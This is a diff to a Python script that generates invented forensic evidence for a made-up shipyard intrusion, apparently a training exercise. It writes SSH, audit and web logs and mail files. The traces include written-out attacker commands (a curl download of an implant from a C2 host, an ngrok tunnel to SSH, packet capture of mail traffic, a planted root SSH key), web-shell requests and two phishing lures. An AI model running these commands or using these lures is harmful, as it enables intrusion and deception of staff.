@@ -1,14 +1,17 @@
 #!/usr/bin/env python3
-"""Writes the event logs of a made-up intrusion at a made-up shipyard.
+"""Writes the evidence of a made-up intrusion at a made-up shipyard.
 
 One working day of the workstation ws-071.nordwerft.example, as Sysmon and the Security log would have
 recorded it: some three thousand events of ordinary work, and among them the few that README.md tells of.
-Everything is invented; names end in .example and addresses are from the ranges reserved for documentation.
+Beside it some mails, the logs of the web server for two weeks, and those of two servers behind it.
+Everything is invented; names end in .example and addresses are from the ranges reserved for documentation,
+those of the servers' own network from a private one.
 Nothing here is code of an attacker, only the traces it would leave.
 
 Run without arguments; the files beside this one are written anew, the same each time.
 """
 
+import base64
 import json
 import pathlib
 import random
@@ -814,6 +817,413 @@ def write(machine, channel, path):
     print(f"{path.name}: {len(events)} events")
 
 
+# The web server and those behind it, in a network of their own.
+WEB, DATABASE, PATCHES = "web-01", "db-01", "patch-01"
+WEB_ADDRESS, ADMIN_ADDRESS = "10.20.0.80", "10.20.1.5"
+# The firm that looks after the web server, its key, and the one that it has from the 19th.
+PROVIDER = ("wartung", "198.51.100.150", "SHA256:pUq0nZ2m9Wc4Jm1rQe7sVtX5bYhKd8LfGaRoTi3uEwM")
+NEW_KEY = "SHA256:Hq6sYd1LrVu8NwKx3TzPb0fGmJc5EaRoIi9XtQe2yWk"
+ADMIN_KEY = "SHA256:Zk3vB8tHqY1xWn6cRf0sLpJd5uGmEa9oTi2bXhVrCyQ"
+NUMBERS = {"root": 0, "j.petersen": 1000, "wartung": 1002}
+INTRUDER_KEY = "SHA256:mR7cXw2LkTz9QeVb4HnYp0sJf6GdUa1iOtKx8BhErWg"
+SHARE_ADDRESS = "203.0.113.121"
+SHARE = "https://share.talent-nord.example/d/"
+FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"
+EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0"
+# An Edge of November 2022, as in the reports.
+STALE_EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/107.0.0.0 Safari/537.36 Edg/107.0.1418.42"
+
+
+def moment(day, time):
+    """A time of November 2026."""
+    return datetime.fromisoformat(f"2026-11-{day:02}T{time}+00:00")
+
+
+class Server:
+    """A Linux server's authentication log, as rsyslog writes it with times in ISO form."""
+
+    def __init__(self, name, rng):
+        self.name, self.rng, self.lines = name, rng, []
+
+    def say(self, time, program, message):
+        stamp = time.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")
+        self.lines.append((time, f"{stamp} {self.name} {program}: {message}"))
+
+    def login(self, time, account, address, minutes, key=None):
+        """A session over SSH; with a password where there is no key. Gives the number of its process."""
+        pid, port = self.rng.randrange(1_000, 99_000), self.rng.randrange(32_768, 61_000)
+        sshd, how = f"sshd[{pid}]", "publickey" if key else "password"
+        tail = f" ssh2: ED25519 {key}" if key else " ssh2"
+        self.say(time, sshd, f"Accepted {how} for {account} from {address} port {port}{tail}")
+        opened = f"session opened for user {account}(uid={NUMBERS[account]}) by (uid=0)"
+        self.say(time + timedelta(milliseconds=21), sshd, f"pam_unix(sshd:session): {opened}")
+        end = time + timedelta(minutes=minutes)
+        self.say(end, sshd, f"Received disconnect from {address} port {port}:11: disconnected by user")
+        self.say(end + timedelta(milliseconds=1), sshd, f"Disconnected from user {account} {address} port {port}")
+        self.say(end + timedelta(milliseconds=2), sshd, f"pam_unix(sshd:session): session closed for user {account}")
+        return pid
+
+    def sudo(self, time, account, command, seconds=2):
+        self.say(time, "sudo", f" {account} : TTY=pts/0 ; PWD=/home/{account} ; USER=root ; COMMAND={command}")
+        opened = f"session opened for user root(uid=0) by {account}(uid={NUMBERS[account]})"
+        self.say(time + timedelta(milliseconds=4), "sudo", f"pam_unix(sudo:session): {opened}")
+        closed = "pam_unix(sudo:session): session closed for user root"
+        self.say(time + timedelta(seconds=seconds), "sudo", closed)
+
+    def knock(self, time, address, name):
+        """A stranger on the internet tries a password."""
+        sshd = f"sshd[{self.rng.randrange(1_000, 99_000)}]"
+        port = self.rng.randrange(32_768, 61_000)
+        self.say(time, sshd, f"Invalid user {name} from {address} port {port}")
+        failed = f"Failed password for invalid user {name} from {address} port {port} ssh2"
+        self.say(time + timedelta(seconds=2), sshd, failed)
+        closed = f"Connection closed by invalid user {name} {address} port {port} [preauth]"
+        self.say(time + timedelta(seconds=3), sshd, closed)
+
+    def hourly(self):
+        """What cron runs from the 9th to the 21st."""
+        for hour in range(13 * 24):
+            time = moment(9, "00:17:01") + timedelta(hours=hour, microseconds=self.rng.randrange(900_000))
+            cron = f"CRON[{self.rng.randrange(1_000, 99_000)}]"
+            self.say(time, cron, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
+            self.say(time, cron, "(root) CMD (cd / && run-parts --report /etc/cron.hourly)")
+            later = time + timedelta(milliseconds=90)
+            self.say(later, cron, "pam_unix(cron:session): session closed for user root")
+
+    def write(self, path):
+        self.lines.sort(key=lambda line: line[0])
+        write_lines(path, (line for _, line in self.lines))
+
+
+def write_lines(path, lines):
+    lines = list(lines)
+    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8", newline="\n")
+    print(f"{path.name}: {len(lines)} lines")
+
+
+STRANGERS = ["198.51.100.241", "203.0.113.199", "203.0.113.214"]
+NAMES = ["admin", "oracle", "test", "ubuntu", "git", "pi", "ftpuser", "deploy", "mysql", "backup", "user", "ansible"]
+
+
+def strangers(web):
+    """Whoever is on the internet is knocked at: now and then, and in two nights for a while, the second that of the intrusion."""
+    for number in range(60):
+        time = moment(9, "00:40:00") + timedelta(hours=5 * number, seconds=web.rng.randrange(9_000))
+        web.knock(time, web.rng.choice(STRANGERS), web.rng.choice(NAMES[:5]))
+    for begin, address in ((moment(14, "03:12:10"), STRANGERS[0]), (moment(18, "02:04:20"), STRANGERS[1])):
+        for number, name in enumerate(NAMES):
+            web.knock(begin + timedelta(seconds=100 * number + web.rng.randrange(60)), address, name)
+
+
+def upkeep(web, database, patches):
+    """What the provider and the yard's administrator do with good reason, some of which looks like the intrusion.
+
+    Gives the number of the provider's process on the 17th.
+    """
+    account, address, key = PROVIDER
+    pids = {}
+    for day, time in ((10, "08:12:40"), (12, "09:02:11"), (17, "08:20:37"), (19, "07:31:05")):
+        pids[day] = web.login(moment(day, time), account, address, 38, key if day < 19 else NEW_KEY)
+        web.sudo(moment(day, time) + timedelta(minutes=1), account, "/usr/bin/apt-get update")
+        web.sudo(moment(day, time) + timedelta(minutes=4), account, "/usr/bin/apt-get -y upgrade")
+        web.sudo(moment(day, time) + timedelta(minutes=31), account, "/usr/bin/systemctl reload apache2")
+    key_of_packages = "https://pakete.webwerk.example/schluessel.asc"
+    fetch = f"/usr/bin/curl -fsSL -o /usr/share/keyrings/webwerk.asc {key_of_packages}"
+    web.sudo(moment(12, "09:10:02"), account, fetch)
+    for server in (web, database, patches):
+        for day in (9, 11, 13, 16, 18, 20):
+            time = moment(day, "12:05:00") + timedelta(minutes=server.rng.randrange(50))
+            server.login(time, "j.petersen", ADMIN_ADDRESS, 12, ADMIN_KEY)
+            server.sudo(time + timedelta(minutes=2), "j.petersen", "/usr/bin/journalctl -p warning --since yesterday")
+    web.login(moment(13, "13:20:09"), "j.petersen", ADMIN_ADDRESS, 25, ADMIN_KEY)
+    web.sudo(moment(13, "13:24:50"), "j.petersen", "/usr/bin/tcpdump -ni ens18 -c 500 port 443", 30)
+    sniff(web, moment(13, "13:24:50"), 0.5)
+    return pids[17]
+
+
+def sniff(server, time, minutes):
+    for state, when in (("entered", time), ("left", time + timedelta(minutes=minutes))):
+        uptime = (when - moment(1, "03:12:44")).total_seconds()
+        server.say(when + timedelta(milliseconds=40), "kernel", f"[{uptime:.6f}] ens18: {state} promiscuous mode")
+
+
+TOOL = "/wp-content/themes/strand/inc/agent.tgz"
+# What is typed at night on the web server, each through sudo, and for how many seconds it runs.
+NIGHT = [
+    ("02:01:40.318", f"/usr/bin/curl -fsS -o /var/tmp/agent.tgz https://{C2[0]}{TOOL}", 1),
+    ("02:02:31.902", "/usr/bin/tar -xzf /var/tmp/agent.tgz -C /usr/local/sbin", 2),
+    ("02:03:05.447", "/usr/local/sbin/ngrok tcp 22 --log /dev/null", 2940),
+    ("02:09:44.120", "/usr/bin/tcpdump -i ens18 -w /var/tmp/s.pcap port 143 or port 25", 1860),
+]
+
+
+def night(web, database, patches):
+    """The provider's key, stolen, from the implant's site and then from the provider's own network; and further on."""
+    account, address, key = PROVIDER
+    sshd = "sshd[41206]"
+    where = f"host={C2[1]}, ip={C2[1]}, required={address}"
+    refused = f"correct key but not from a permitted host ({where})."
+    web.say(
+        moment(18, "01:47:31.207"),
+        sshd,
+        f"/home/{account}/.ssh/authorized_keys:1: Authentication tried for {account} with {refused}",
+    )
+    closed = f"Connection closed by authenticating user {account} {C2[1]} port 51622 [preauth]"
+    web.say(moment(18, "01:47:33.690"), sshd, closed)
+    pid = web.login(moment(18, "01:58:12.731"), account, address, 54, key)
+    for time, command, seconds in NIGHT:
+        web.sudo(moment(18, time), account, command, seconds)
+    sniff(web, moment(18, "02:09:44.120"), 31)
+    database.login(moment(18, "02:14:20.552"), account, WEB_ADDRESS, 2)
+    patches.login(moment(18, "02:17:02.084"), account, WEB_ADDRESS, 9)
+    patches.sudo(moment(18, "02:19:30.616"), account, "/usr/bin/tee -a /root/.ssh/authorized_keys")
+    patches.login(moment(18, "02:24:11.009"), "root", WEB_ADDRESS, 21, INTRUDER_KEY)
+    return pid
+
+
+class Audit:
+    """The web server's audit log: sessions over SSH and the programs run in them."""
+
+    def __init__(self, rng):
+        self.rng, self.serial, self.lines = rng, 4_700, []
+
+    def record(self, time, kind, rest):
+        stamp = f"{time.timestamp():.3f}:{self.serial}"
+        self.lines.append(f"node={WEB} type={kind} msg=audit({stamp}): {rest}")
+
+    def session(self, time, pid, number, state):
+        account, address, _ = PROVIDER
+        self.serial += 1
+        kind = {"open": "USER_START", "close": "USER_END"}[state]
+        ends = f'acct="{account}" exe="/usr/sbin/sshd" hostname={address} addr={address} terminal=ssh res=success'
+        self.record(
+            time, kind, f"pid={pid} uid=0 auid=1002 ses={number} msg='op=PAM:session_{state} grantors=pam_unix {ends}'"
+        )
+
+    def run(self, time, parent, number, command):
+        self.serial += 1
+        words = command.split()
+        pid, name = parent + 40 * (self.serial - 4_700) + self.rng.randrange(40), words[0].rsplit("/", 1)[-1]
+        who = "auid=1002 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0"
+        self.record(
+            time,
+            "SYSCALL",
+            f"arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1a0 a1=55d0c1f8 a2=55d0c260 a3=0 items=2 ppid={parent} pid={pid}"
+            f' {who} ses={number} comm="{name}" exe="{words[0]}" key="run"',
+        )
+        arguments = " ".join(f'a{at}="{word}"' for at, word in enumerate([name, *words[1:]]))
+        self.record(time, "EXECVE", f"argc={len(words)} {arguments}")
+        self.record(time, "CWD", f'cwd="/home/{PROVIDER[0]}"')
+
+
+def audited(rng, usual, pid):
+    """The provider's session on the 17th, and the intruder's in the night after it."""
+    audit = Audit(rng)
+    audit.session(moment(17, "08:20:37.021"), usual, 611, "open")
+    for minute, command in (
+        (1, "/usr/bin/apt-get update"),
+        (4, "/usr/bin/apt-get -y upgrade"),
+        (31, "/usr/bin/systemctl reload apache2"),
+    ):
+        audit.run(moment(17, "08:20:37.0") + timedelta(minutes=minute), usual + 31, 611, command)
+    audit.session(moment(17, "08:58:37.002"), usual, 611, "close")
+    audit.session(moment(18, "01:58:12.752"), pid, 624, "open")
+    for time, command, _ in NIGHT:
+        audit.run(moment(18, time) + timedelta(milliseconds=6), pid + 31, 624, command)
+    audit.session(moment(18, "02:52:12.733"), pid, 624, "close")
+    return audit.lines
+
+
+PAGES = ["/", "/schiffe/", "/schiffe/forschung/", "/karriere/", "/kontakt/", "/wp-content/themes/nordwerft/style.css"]
+PAGES += ["/wp-content/uploads/2026/10/stapellauf.jpg", "/presse/", "/impressum/"]
+
+
+class Site:
+    """The access log of the yard's web site, each line with the name of the server before it."""
+
+    def __init__(self, rng):
+        self.rng, self.lines = rng, []
+
+    def ask(self, time, address, request, status=200, size=0, referer="-", agent=FIREFOX):
+        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000")
+        size = size or self.rng.randrange(400, 30_000)
+        line = f'web-01.nordwerft.example:443 {address} - - [{stamp}] "{request} HTTP/1.1" {status} {size} "{referer}" "{agent}"'
+        self.lines.append((time, line))
+
+    def visitors(self):
+        """Two days of readers, a crawler, and applicants who send their papers by the same form."""
+        for _ in range(900):
+            time = moment(20, "00:00:00") + timedelta(seconds=self.rng.randrange(2 * 86_400))
+            address = f"198.51.100.{self.rng.randrange(2, 140)}"
+            page = self.rng.choice(PAGES)
+            self.ask(
+                time, address, f"GET {page}", 200, 0, "https://www.nordwerft.example/", self.rng.choice([FIREFOX, EDGE])
+            )
+        for day, time, address in (
+            (20, "10:14:22", "198.51.100.33"),
+            (20, "18:40:09", "198.51.100.118"),
+            (21, "09:55:41", "198.51.100.61"),
+        ):
+            form = "https://www.nordwerft.example/karriere/"
+            self.ask(
+                moment(day, time), address, "POST /wp-admin/admin-ajax.php?action=bewerbung_upload", 200, 41, form, EDGE
+            )
+            self.ask(moment(day, time) + timedelta(seconds=2), address, "GET /karriere/danke/", 200, 0, form, EDGE)
+
+    def shell(self):
+        """A script sent in as an application, then used."""
+        begin, script = moment(20, "22:31:08"), "/wp-content/uploads/2026/11/anschreiben.php"
+        self.ask(begin, SHARE_ADDRESS, "GET /karriere/", 200, 0, "-", STALE_EDGE)
+        upload = "POST /wp-admin/admin-ajax.php?action=bewerbung_upload"
+        self.ask(begin + timedelta(seconds=51), SHARE_ADDRESS, upload, 200, 41, "-", STALE_EDGE)
+        for second, query in ((64, "id"), (90, "uname+-a")):
+            self.ask(
+                begin + timedelta(seconds=second), SHARE_ADDRESS, f"GET {script}?cmd={query}", 200, 118, "-", STALE_EDGE
+            )
+        for number in range(14):
+            time = begin + timedelta(seconds=200 + 190 * number + self.rng.randrange(60))
+            self.ask(time, SHARE_ADDRESS, f"POST {script}", 200, self.rng.randrange(90, 700), "-", STALE_EDGE)
+
+    def write(self, path):
+        self.lines.sort(key=lambda line: line[0])
+        write_lines(path, (line for _, line in self.lines))
+
+
+PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+
+
+def mail(path, time, sender, recipient, subject, text, server, attached=None):
+    """A mail as the yard's mail server has filed it."""
+    name, address = sender
+    domain = address.split("@")[1]
+    date = time.strftime("%a, %d %b %Y %H:%M:%S +0000")
+    head = [
+        f"Return-Path: <{address}>",
+        f"Received: from {server[0]} ({server[0]} [{server[1]}]) by mx.nordwerft.example with ESMTPS; {date}",
+        f"Authentication-Results: mx.nordwerft.example; spf=pass smtp.mailfrom={domain}; dmarc=pass header.from={domain}",
+        f"Date: {date}",
+        f"From: {name} <{address}>",
+        f"To: {recipient}",
+        f"Subject: {subject}",
+        f"Message-ID: <{time:%Y%m%d%H%M%S}.{len(text)}@{domain}>",
+        "MIME-Version: 1.0",
+    ]
+    body = ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", *text.strip().split("\n")]
+    if attached:
+        encoded = base64.encodebytes(PDF).decode("ascii").strip().split("\n")
+        file = [f'Content-Type: application/pdf; name="{attached}"', "Content-Transfer-Encoding: base64"]
+        file += [f'Content-Disposition: attachment; filename="{attached}"', "", *encoded]
+        body = ['Content-Type: multipart/mixed; boundary="teil"', "", "--teil", *body, "--teil", *file, "--teil--"]
+    write_lines(path, head + body)
+
+
+def mails(folder):
+    folder.mkdir(exist_ok=True)
+    keller, petersen = "Michael Keller <m.keller@nordwerft.example>", "Jan Petersen <j.petersen@nordwerft.example>"
+    mail(
+        folder / "2026-11-17-job.eml",
+        moment(17, "08:36:50"),
+        ("Helen Marsh, Talent Nord", "h.marsh@talent-nord.example"),
+        keller,
+        "Naval propulsion: the job description, as promised",
+        LURE,
+        ("mail.talent-nord.example", SHARE_ADDRESS),
+        "Talent_Nord_Overview.pdf",
+    )
+    mail(
+        folder / "2026-11-16-datasheet.eml",
+        moment(16, "14:12:40"),
+        ("Wellenlager Brandt", "vertrieb@wellenlager-brandt.example"),
+        keller,
+        "Datenblatt Wellenlager WL-220",
+        DATASHEET,
+        ("mail.wellenlager-brandt.example", "198.51.100.91"),
+        "Wellenlager_Datenblatt.pdf",
+    )
+    mail(
+        folder / "2026-11-19-applicants.eml",
+        moment(19, "13:05:33"),
+        ("Stellenmarkt Küste", "service@stellenmarkt-kueste.example"),
+        "personal@nordwerft.example",
+        "Three new applications for your vacancy",
+        APPLICANTS,
+        ("mail.stellenmarkt-kueste.example", "198.51.100.77"),
+    )
+    mail(
+        folder / "2026-11-20-patch.eml",
+        moment(20, "23:24:05"),
+        ("Sabine Yilmaz", "s.yilmaz@nordwerft-it.example"),
+        petersen,
+        "Urgent: client update for tonight",
+        PATCH,
+        ("mail.nordwerft-it.example", SHARE_ADDRESS),
+    )
+
+
+LURE = f"""
+Dear Michael,
+
+it was a pleasure to talk to you, and your experience with hulls is exactly what our client in naval propulsion is looking for.
+As promised, here is the job description with the salary range:
+
+{SHARE}9f1c/Job_Description_Naval_Propulsion.iso
+
+The document is protected. Please open it only with the PDF reader that comes with it, other readers show an empty page.
+As the project is confidential, please do not speak of it with your colleagues. You reach me on WhatsApp as before.
+
+Kind regards
+Helen Marsh
+"""
+DATASHEET = """
+Guten Tag Herr Keller,
+
+anbei das gewünschte Datenblatt zum Wellenlager WL-220. Die Zeichnung im Maßstab 1:5 folgt nächste Woche.
+
+Mit freundlichen Grüßen
+Ute Brandt
+"""
+APPLICANTS = """
+Good afternoon,
+
+there are three new applications for your vacancy "Naval architect (m/f/d)". You find them in your account at
+https://www.stellenmarkt-kueste.example/firma/anmeldung
+
+Your Stellenmarkt Küste
+"""
+PATCH = f"""
+Hello Jan,
+
+after last night we have to act quickly. The vendor has sent an update of the inventory client that closes the hole.
+Please roll out this patch to all clients via patch-01 tonight, without the usual test:
+
+{SHARE}b27e/Inventar_Client_Update.msi
+
+I am in meetings and cannot be reached by telephone. Do not talk to anybody about it until we know who is involved.
+
+Sabine
+"""
+
+
+def servers(folder):
+    """The parts of the story that are not on the workstation. Each draws its own numbers, so that none changes another."""
+    web, database, patches = (Server(name, random.Random(f"{SEED} {name}")) for name in (WEB, DATABASE, PATCHES))
+    for server in (web, database, patches):
+        server.hourly()
+    strangers(web)
+    usual = upkeep(web, database, patches)
+    pid = night(web, database, patches)
+    refused = "command not allowed ; PWD=/var/www/html/wp-content/uploads/2026/11 ; USER=root ; COMMAND=/bin/bash"
+    web.say(moment(20, "22:52:47.033"), "sudo", f"www-data : {refused}")
+    site = Site(random.Random(f"{SEED} site"))
+    site.visitors()
+    site.shell()
+    for server in (web, database, patches):
+        server.write(folder / f"{server.name}-auth.log")
+    write_lines(folder / f"{WEB}-audit.log", audited(random.Random(f"{SEED} audit"), usual, pid))
+    site.write(folder / f"{WEB}-access.log")
+    mails(folder / "mail")
+
+
 def main():
     machine = Machine(random.Random(SEED))
     desk = morning(machine)
@@ -826,6 +1236,7 @@ def main():
     folder = pathlib.Path(__file__).resolve().parent
     write(machine, SYSMON, folder / "ws-071-sysmon.jsonl")
     write(machine, SECURITY, folder / "ws-071-security.jsonl")
+    servers(folder)
 
 
 if __name__ == "__main__":
